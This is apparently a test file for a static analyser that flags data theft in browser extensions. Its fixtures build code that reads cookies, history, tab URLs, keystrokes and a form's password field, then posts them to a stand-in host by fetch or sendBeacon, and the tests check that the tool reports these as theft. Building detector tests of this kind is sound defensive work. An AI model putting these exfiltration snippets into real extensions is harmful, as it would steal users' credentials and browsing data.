import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../../../testing/flows-between.ts';

type Use = (value: string) => string;

/** What is stolen: the kind of the data, and the code around what the helper is called with. */
const thefts: readonly (readonly [string, (use: Use) => string])[] = [
  ['cookies', (use) => `chrome.cookies.getAll({}, (c) => { ${use('c')} });`],
  [
    'cookies',
    (use) => `(async () => { const c = await chrome.cookies.getAll({}); ${use('c')} })();`,
  ],
  ['history', (use) => `chrome.history.search({ text: '' }, (h) => { ${use('h')} });`],
  ['tabs', (use) => `chrome.tabs.query({}, (t) => { ${use('t[0].url')} });`],
  ['key-input', (use) => `document.addEventListener('keyup', (e) => { ${use('e.key')} });`],
  [
    'form-input',
    (use) =>
      `document.querySelector('form').onsubmit = () => { ${use(`document.querySelector('#p').value`)} };`,
  ],
  ['cookies', (use) => use('document.cookie')],
];

const post = (body: string): string =>
  `fetch('https://e.dev/x', { method: 'POST', body: ${body} })`;

/** A helper, and how it is called. */
const helpers: Readonly<Record<string, readonly [string, Use]>> = {
  function: [`function send(p) { ${post('JSON.stringify(p)')} }`, (value) => `send(${value});`],
  arrow: [
    `const send = (p) => navigator.sendBeacon('https://e.dev/x', JSON.stringify(p));`,
    (value) => `send(${value});`,
  ],
  async: [
    `async function send(p) { const r = await ${post('JSON.stringify({ p })')}; return r.json() }`,
    (value) => `send(${value});`,
  ],
  class: [
    `class Api { constructor(url) { this.url = url }
      post(path, body) { return fetch(this.url + path, { method: 'POST', body: JSON.stringify(body) }) } }
    const api = new Api('https://e.dev/');`,
    (value) => `api.post('/a', ${value});`,
  ],
  'of names and values': [
    `function track(name, value) { const body = { name, value }; ${post('JSON.stringify(body)')} }`,
    (value) => `track('a', ${value});`,
  ],
  'of one member': [`function send(p) { ${post('p.v')} }`, (value) => `send({ v: ${value} });`],
  'with a helper': [
    `function raw(body) { ${post('body')} } function send(p) { raw(JSON.stringify(p)) }`,
    (value) => `send(${value});`,
  ],
};

/** What other callers send. */
const others: Readonly<Record<string, (use: Use) => string>> = {
  'a text': (use) => use(`'hello'`),
  'a number': (use) => use('42'),
  'what is stored': (use) => `chrome.storage.local.get('k', (r) => { ${use('r.k')} });`,
  'what is stored, awaited': (use) =>
    `(async () => { const { k } = await chrome.storage.local.get('k'); ${use('k')} })();`,
  'part of a message': (use) =>
    `chrome.runtime.onMessage.addListener((m) => { ${use('m.data')} });`,
  'a message': (use) => `chrome.runtime.onMessage.addListener((m) => { ${use('m')} });`,
  'an item of the page': (use) => use(`localStorage.getItem('a')`),
  'an answer': (use) =>
    `fetch('https://o.dev/a').then((r) => r.json()).then((j) => { ${use('j')} });`,
};

describe('what one caller of a helper sends', () => {
  for (const [shape, [helper, use]] of Object.entries(helpers)) {
    for (const [other, calls] of Object.entries(others)) {
      it(`is found beside callers that send ${other}, in a helper that is a ${shape}`, () => {
        for (const [kind, theft] of thefts) {
          const stolen = theft(use);
          const rest = Array.from({ length: 4 }, () => calls(use)).join('\n');
          for (const code of [`${helper}\n${stolen}\n${rest}`, `${helper}\n${rest}\n${stolen}`]) {
            const file = code.includes('document') ? 'content.js' : 'worker.js';
            const flows = flowsBetween({ [file]: code });
            assert.ok(
              flows.some((flow) => flow.startsWith(`${kind} ${file} > network ${file} (theft`)),
              `${code}\n${flows.join('\n')}`,
            );
          }
        }
      });
    }
  }

  it('is not told of a receiver that another caller names', () => {
    const flows = flowsBetween({
      'worker.js': `
        function read(callback) { chrome.storage.local.get('k', (r) => { callback(r.k) }) }
        function show(value) { document.title = value }
        chrome.cookies.getAll({}, (c) => show(c));
        read((k) => { ${post('k')} });`,
    });
    assert.ok(!flows.some((flow) => flow.startsWith('cookies')), flows.join('\n'));
  });
});

const give = 'const give = (value, done) => done(value);';
const all = (code: string): string => `chrome.cookies.getAll({}, (c) => { ${code} });`;
const sends = `(x) => ${post('JSON.stringify(x)')}`;

/** Callbacks of one helper, of which one sends what it is called with. */
const handed: Readonly<Record<string, (sent: string, kept: string) => string>> = {
  'written out': (sent, kept) =>
    `${give} ${all(`give(${sent}, ${sends}); give(${kept}, (x) => x)`)}`,
  named: (sent, kept) =>
    `${give} const a = ${sends}, b = (x) => x; ${all(`give(${sent}, a); give(${kept}, b)`)}`,
  'called later': (sent, kept) =>
    `const give = (value, done) => setTimeout(() => done(value), 0); ${all(`give(${kept}, (x) => x); give(${sent}, ${sends})`)}`,
};

/** What else makes a helper call a callback with what another call handed over. */
const mixed: Readonly<Record<string, string>> = {
  'a callback that is kept': `let last; const give = (v, done) => { if (last) last(v); last = done; done(v) }; give(1, ${sends}); ${all('give(c, (x) => x)')}`,
  'a value that is kept': `let kept; const give = (v, done) => { done(kept); kept = v }; ${all(`give(c, (x) => x); give(5, ${sends})`)}`,
  'a name that is given another function': `${give} let a = (x) => x; const s = ${sends}; give(1, s); a = s; ${all('give(c, a)')}`,
  'a parameter that is given another function': `function give(v, done) { done = give.d || done; done(v) } give.d = ${sends}; give(1, (x) => x); ${all('give(c, (x) => x)')}`,
  'another name of the helper': `${give} const h = give; const a = ${sends}; give(1, a); give(2, (x) => x); ${all('h(c, a)')}`,
  'a list of arguments': `${give} const a = ${sends}; give(1, a); give(2, (x) => x); ${all('give.apply(null, [c, a])')}`,
};

describe('callbacks of a helper', () => {
  const isTold = (code: string): boolean =>
    /cookies \S+ > network/.test(flowsBetween({ 'worker.js': code }).join());
  for (const [what, code] of Object.entries(handed)) {
    it(`are told apart by the calls that hand them over: ${what}`, () => {
      assert.ok(isTold(code('c', '5')));
      assert.ok(!isTold(code('5', 'c')));
    });
  }
  for (const [what, code] of Object.entries(mixed)) {
    it(`are not told apart behind ${what}`, () => {
      assert.ok(isTold(code));
    });
  }
});
